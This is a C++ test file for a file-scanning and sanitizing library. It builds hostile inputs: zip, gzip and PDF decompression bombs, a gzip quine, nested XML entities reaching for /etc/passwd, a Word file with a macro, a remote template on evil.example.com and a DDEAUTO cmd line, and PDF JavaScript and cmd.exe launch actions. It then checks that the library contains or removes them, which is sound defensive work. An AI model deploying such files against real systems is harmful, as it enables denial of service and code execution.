// Files made to break their readers: each ends quickly, in little memory, and names the limit or the fact (issue "Bad
// input").
#include <doctest/doctest.h>
#include <sys/resource.h>
#include <zlib.h>

#include <algorithm>
#include <ctime>

#include "base/encode.h"
#include "content/made_files.h"
#include "content/office/made_ole.h"
#include "content/office/ole.h"
#include "content/office/vba.h"
#include "content/read.h"
#include "content/sanitize.h"

namespace sekisho::content {
namespace {

using testing::deflated;
using testing::zip_of;

std::vector<std::string> traits_of(const Document& document) {
  std::vector<std::string> names;
  for (const auto& trait : document.traits) names.push_back(trait.name);
  std::sort(names.begin(), names.end());
  names.erase(std::unique(names.begin(), names.end()), names.end());
  return names;
}
bool contains(const std::vector<std::string>& names, std::string_view name) {
  return std::find(names.begin(), names.end(), name) != names.end();
}

std::string png_header(std::uint32_t width, std::uint32_t height) {
  std::string png("\x89PNG\r\n\x1A\n\0\0\0\rIHDR", 16);
  for (const auto n : {width, height}) {
    for (int shift = 24; shift >= 0; shift -= 8) png.push_back(static_cast<char>(n >> shift));
  }
  png.append(std::string("\x08\0\0\0\0", 5));
  const auto crc = crc32_z(0, reinterpret_cast<const Bytef*>(png.data() + 12), 17);
  for (int shift = 24; shift >= 0; shift -= 8) png.push_back(static_cast<char>(crc >> shift));
  return png + std::string("\0\0\0\0IDAT\x35\xAF\x06\x1E", 12);
}

#if defined(__SANITIZE_ADDRESS__)
constexpr long milliseconds_allowed = 15'000;
#else
constexpr long milliseconds_allowed = 1000;  // of processor time, for each input
#endif

// 170 bytes that unpack to themselves, made of stored blocks and copies after Russ Cox, "Zip Files All The Way Down"
// (2010).
constexpr std::string_view quine =
    "H4sICAAAAAAAA2EuZ3oAABQA6/8fiwgIAAAAAAADYS5negAAFADr/0KIIcQAAAUA+v9CiCHEAAAFAPr/AAUA+v8AFADr/0KIIcQAAAUA+v8ABQD6/"
    "wAUAOv/QoghxAAAFADr/0KIIcQAABQA6/9CiCHEAAAUAOv/QoghxAAAFADr/0KI"
    "IcQAAAAA//8DANG3zSWqAAAAQoghxAAAAAD//wMA0bfNJaoAAAA=";

std::string repeated(const std::string& piece, int times) {
  std::string out;
  out.reserve(piece.size() * static_cast<std::size_t>(times));
  for (int i = 0; i < times; ++i) out += piece;
  return out;
}
std::string crowded_ole() {
  std::vector<std::pair<std::string, std::string>> streams{{"WordDocument", std::string("\xEC\xA5", 2)}};
  for (int i = 0; i < 25'000; ++i) streams.push_back({"s" + std::to_string(i), "x"});
  return testing::ole_of(streams);
}

}  // namespace

TEST_CASE("hostile files end within their limits and name them") {
  const std::string zeros(64u << 20, '\0');
  std::string nested = zip_of({{"zeros", zeros}});
  for (int i = 0; i < 8; ++i) nested = zip_of({{"inner.zip", nested}});
  std::string wide = zip_of({{"zeros", std::string(4u << 20, '\0')}});
  for (int i = 0; i < 5; ++i) wide = zip_of(std::vector<std::pair<std::string, std::string>>(16, {"inner.zip", wide}));
  std::vector<std::pair<std::string, std::string>> members(12'000, {"a", "x"});
  for (std::size_t i = 0; i < members.size(); ++i) members[i].first += std::to_string(i);
  const auto crowd = zip_of(members);
  std::string layers = std::string(32u << 20, 'A');
  std::string filters;
  for (int i = 0; i < 8; ++i) layers = deflated(layers), filters += "/FlateDecode ";
  const auto pdf_of = [](const std::string& objects) {
    return "%PDF-1.5\n" + objects + "trailer <</Root 1 0 R>>\n%%EOF\n";
  };
  std::string deep_rtf = "{\\rtf1 ";
  deep_rtf.append(300'000, '{');
  std::string deep_xml = "<?xml version=\"1.0\"?><svg>";
  for (int i = 0; i < 200'000; ++i) deep_xml += "<g>";
  const std::string laughs =
      "<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;\"><!ENTITY c "
      "SYSTEM \"file:///etc/passwd\">]><w:document><w:t>&b;&c;</w:t></w:document>";
  const std::string types =
      "<Types><Override PartName=\"/word/document.xml\" "
      "ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";

  // One stored megabyte to which every entry of the directory points: each name's copy would be scanned by itself.
  std::string crowded("PK\3\4\24\0\0\0\0\0\0\0\0\0", 14), directory;
  const std::string noise = zeros.substr(0, 1u << 20);
  testing::put(crowded, 0, 4), testing::put(crowded, noise.size(), 4), testing::put(crowded, noise.size(), 4);
  testing::put(crowded, 1, 2), testing::put(crowded, 0, 2);
  crowded += "a" + noise;
  for (int i = 0; i < 900; ++i) {
    directory += std::string("PK\1\2\24\0\24\0\0\0\0\0\0\0\0\0", 16);
    testing::put(directory, 0, 4), testing::put(directory, noise.size(), 4), testing::put(directory, noise.size(), 4);
    testing::put(directory, 3, 2);
    for (int k = 0; k < 4; ++k) testing::put(directory, 0, 2);
    testing::put(directory, 0, 4), testing::put(directory, 0, 4);
    directory += std::to_string(100 + i);
  }
  const auto at = crowded.size();
  crowded += directory + std::string("PK\5\6\0\0\0\0", 8);
  testing::put(crowded, 900, 2), testing::put(crowded, 900, 2), testing::put(crowded, directory.size(), 4);
  testing::put(crowded, at, 4), testing::put(crowded, 0, 2);

  struct Row {
    std::string says, bytes, name, trait;
    std::size_t most = 64u << 20;  // bytes kept
  };
  const Row rows[] = {
      {"a drawing of nothing but ampersands",
       "<svg xmlns=\"http://www.w3.org/2000/svg\"><a href=\"" + std::string(2u << 20, '&') + "\">" +
           std::string(4u << 20, '&') + "</a></svg>",
       "a.svg", ""},
      {"a batch file of nothing but set", "@echo off\r\n%x% " + repeated("set ", 250'000), "a.bat", ""},
      {"an element of event handlers alone",
       "<svg xmlns=\"http://www.w3.org/2000/svg\"><a " + repeated(" onx=1", 500'000) + "/></svg>", "a.svg",
       "limit.steps"},
      {"an animation of a million addresses",
       "<svg xmlns=\"http://www.w3.org/2000/svg\"><animate attributeName=\"href\" values=\"" +
           repeated("a:b;", 1'000'000) + "\"/></svg>",
       "a.svg", ""},
      {"a playlist of half a million shares", "#EXTM3U\n" + repeated("\\\\203.0.113.9\\s\\a\n", 200'000), "a.m3u",
       "shortcut.remote_share"},
      {"a compound file of 25,000 storages", crowded_ole(), "a.doc", "limit.files"},
      {"a zip whose entries are all one member", crowded, "a.zip", "limit.expanded_size"},
      {"a flat zip bomb", zip_of({{"zeros", zeros}}), "a.zip", "limit.compression_ratio"},
      {"a zip bomb below the layers that are opened", nested, "a.zip", "limit.layers"},
      {"16^5 zips inside each other", wide, "a.zip", "limit.files", 12u << 20},
      {"an archive of too many files", crowd, "a.zip", "limit.files"},
      {"a gzip bomb", testing::gzipped(zeros), "a.gz", "limit.compression_ratio"},
      {"a gzip that holds itself", *from_base64(quine), "a.gz", "limit.layers"},
      {"a document whose XML is a bomb", zip_of({{"[Content_Types].xml", types}, {"word/document.xml", zeros}}),
       "a.docx", "limit.compression_ratio"},
      {"entities in a document", zip_of({{"[Content_Types].xml", types}, {"word/document.xml", laughs}}), "a.docx",
       "office.dtd"},
      {"a PDF stream in eight layers",
       pdf_of("1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n3 0 "
              "obj <</Type/Page/Parent 2 0 R/Contents 4 0 R>> endobj\n"
              "4 0 obj <</Filter[" +
              filters + "]/Length " + std::to_string(layers.size()) + ">> stream\n" + layers + "\nendstream endobj\n"),
       "a.pdf", "limit.compression_ratio"},
      {"an object stream that is a bomb",
       pdf_of("1 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 99>> stream\n" + deflated(zeros) +
              "\nendstream endobj\n"),
       "a.pdf", "limit.compression_ratio"},
      {"a PDF whose page tree is a loop",
       pdf_of("1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 1>> "
              "endobj\n"),
       "a.pdf", "pdf.damaged"},
      {"a picture of 10^5 by 10^5 pixels", png_header(100'000, 100'000), "a.png", "limit.pixels"},
      {"an RTF of 300,000 open groups", deep_rtf, "a.rtf", "limit.steps"},
      {"an SVG of 200,000 open elements", deep_xml + "<script>eval(1)</script>", "a.svg", "svg.script"},
  };
  for (const auto& row : rows) {
    CAPTURE(row.says);
    rusage before{}, after{};
    getrusage(RUSAGE_SELF, &before);
    const auto start = std::clock();
    Budget budget;
    const auto document = read(row.bytes, {.as = ReadOptions::As::file, .filename = row.name}, budget);
    const auto took = 1000 * (std::clock() - start) / CLOCKS_PER_SEC;
    getrusage(RUSAGE_SELF, &after);
    const auto names = traits_of(document);
    if (!row.trait.empty()) CHECK_MESSAGE(contains(names, row.trait), row.trait);
    if (row.trait.starts_with("limit.")) CHECK(contains(document.limits, row.trait.substr(6)));
    MESSAGE(row.says << ": " << took << " ms, " << (after.ru_maxrss - before.ru_maxrss) / 1024
                     << " MB more at the peak");
    CHECK(took < milliseconds_allowed);
    CHECK(document.arena.used() <= row.most);
  }
}

TEST_CASE("a macro stream that claims gigabytes is cut") {
  // One chunk of copy tokens, 4096 bytes each, again and again.
  std::string chunk("\x03\xB0\x02\x20\xFC\x0F", 6);
  std::string packed = "\x01";
  for (int i = 0; i < 100'000; ++i) packed += chunk;
  CHECK(decompress_vba(packed, 1u << 20).size() <= (1u << 20));
}

TEST_CASE("a compound file whose sectors point in circles is read without end or crash") {
  std::string file("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8);
  file.resize(512 * 4, '\0');
  file[30] = 9, file[32] = 6;
  for (std::size_t at = 512; at < 1024; at += 4) file[at] = 0;  // every sector's next is sector 0
  const auto ole = OleFile::open(file);
  if (ole) CHECK(ole->entries().size() <= 20'000);
}

TEST_CASE("sanitized files open and have lost what runs") {
  const std::string types =
      "<Types><Override PartName=\"/word/document.xml\" "
      "ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"
      "<Override PartName=\"/word/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>";
  const std::string rels =
      "<Relationships><Relationship Id=\"r1\" Type=\"http://x/vbaProject\" Target=\"vbaProject.bin\"/>"
      "<Relationship Id=\"r2\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.example.com/t.dotm\" "
      "TargetMode=\"External\"/></Relationships>";
  const std::string body =
      "<w:document><w:p><w:t>Report</w:t></w:p><w:fldSimple w:instr=\"DDEAUTO cmd &quot;/c x&quot;\"/></w:document>";
  const auto docm = zip_of({{"[Content_Types].xml", types},
                            {"word/_rels/document.xml.rels", rels},
                            {"word/document.xml", body},
                            {"word/vbaProject.bin", "\xD0\xCF\x11\xE0 macro"}});
  const auto spelled = zip_of(
      {{"[Content_Types].xml", types},
       {"word/_rels/document.xml.rels",
        "<x:Relationships><x:Relationship\tId='r1' Type = 'http://x/vba&#80;roject' Target='vbaProject.bin'/>"
        "<x:Relationship Id='>' Type='http://x/attachedTemplate' Target = 'http://evil.example.com/t.dotm'\n "
        "TargetMode\t='&#69;xternal'/></x:Relationships>"},
       {"word/document.xml",
        "<z:document><z:p><z:t>Report</z:t></z:p><z:fldSimple q='>' z:instr = '&#68;DEAUTO cmd /c x'/></z:document>"},
       {"word/vbaProject.bin", "\xD0\xCF\x11\xE0 macro"}});
  const std::string pdf =
      "%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction <</S/JavaScript/JS(app.alert\\(1\\))>> >> endobj\n2 0 "
      "obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n"
      "3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 1 "
      "1]/A<</S/Launch/F(cmd.exe)>> >>]>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n";
  struct Row {
    std::string says, bytes, kind;
    std::vector<std::string> gone;
  };
  const Row rows[] = {
      {"a Word file with a macro, a remote template and DDE",
       docm,
       "docm",
       {"office.macro", "office.vba_project", "office.remote_template", "office.dde"}},
      {"the same in other ways that XML has to write it",
       spelled,
       "docm",
       {"office.macro", "office.vba_project", "office.remote_template", "office.dde"}},
      {"a PDF with a script and a launch action", pdf, "pdf", {"pdf.javascript", "pdf.open_action", "pdf.launch"}},
  };
  for (const auto& row : rows) {
    CAPTURE(row.says);
    Budget before_budget, budget, after_budget;
    const auto before = traits_of(read(row.bytes, {.as = ReadOptions::As::file}, before_budget));
    const auto clean = sanitize(row.bytes, row.kind, budget);
    REQUIRE(clean.has_value());
    const auto document = read(*clean, {.as = ReadOptions::As::file}, after_budget);
    const auto after = traits_of(document);
    for (const auto& name : row.gone) {
      CAPTURE(name);
      CHECK(contains(before, name));
      CHECK_FALSE(contains(after, name));
    }
    CHECK_FALSE(document.parts[0].damaged);
    if (row.kind == "docm") CHECK(std::string(document.parts[0].readable).find("Report") != std::string::npos);
  }
}

TEST_CASE("files are told by content, whatever their name says") {
  struct Row {
    std::string says, bytes, name, kind;
  };
  const Row rows[] = {
      {"a program named like a document", std::string("MZ") + std::string(100, '\0'), "invoice.pdf", "exe"},
      {"a PDF behind some bytes", "junk\n%PDF-1.4\n", "x.bin", "pdf"},
      {"a zip", zip_of({{"a.txt", "hello"}}), "a.docx", "zip"},
      {"a page", "<!DOCTYPE html><html><body>x</body></html>", "a.txt", "html"},
      {"a drawing", "<svg xmlns=\"http://www.w3.org/2000/svg\"/>", "a", "svg"},
      {"a shortcut", "[InternetShortcut]\r\nURL=https://example.com/\r\n", "a.txt", "url"},
      {"a calendar", "BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "a", "ics"},
      {"nothing", "", "a.exe", "empty"},
      {"plain words", "Hello there.\n", "a.exe", "text"},
      {"a script by its words", "Set x = CreateObject(\"WScript.Shell\")\nx.Run \"calc\"\nOn Error Resume Next\n",
       "readme", "vbs"},
      {"RTF as short as Word takes it", "{\\rt xx}", "a.doc", "rtf"},
  };
  for (const auto& row : rows) {
    CAPTURE(row.says);
    Budget budget;
    const auto document = read(row.bytes, {.as = ReadOptions::As::file, .filename = row.name}, budget);
    CHECK(std::string(document.parts[0].kind) == row.kind);
  }
}

}  // namespace sekisho::content
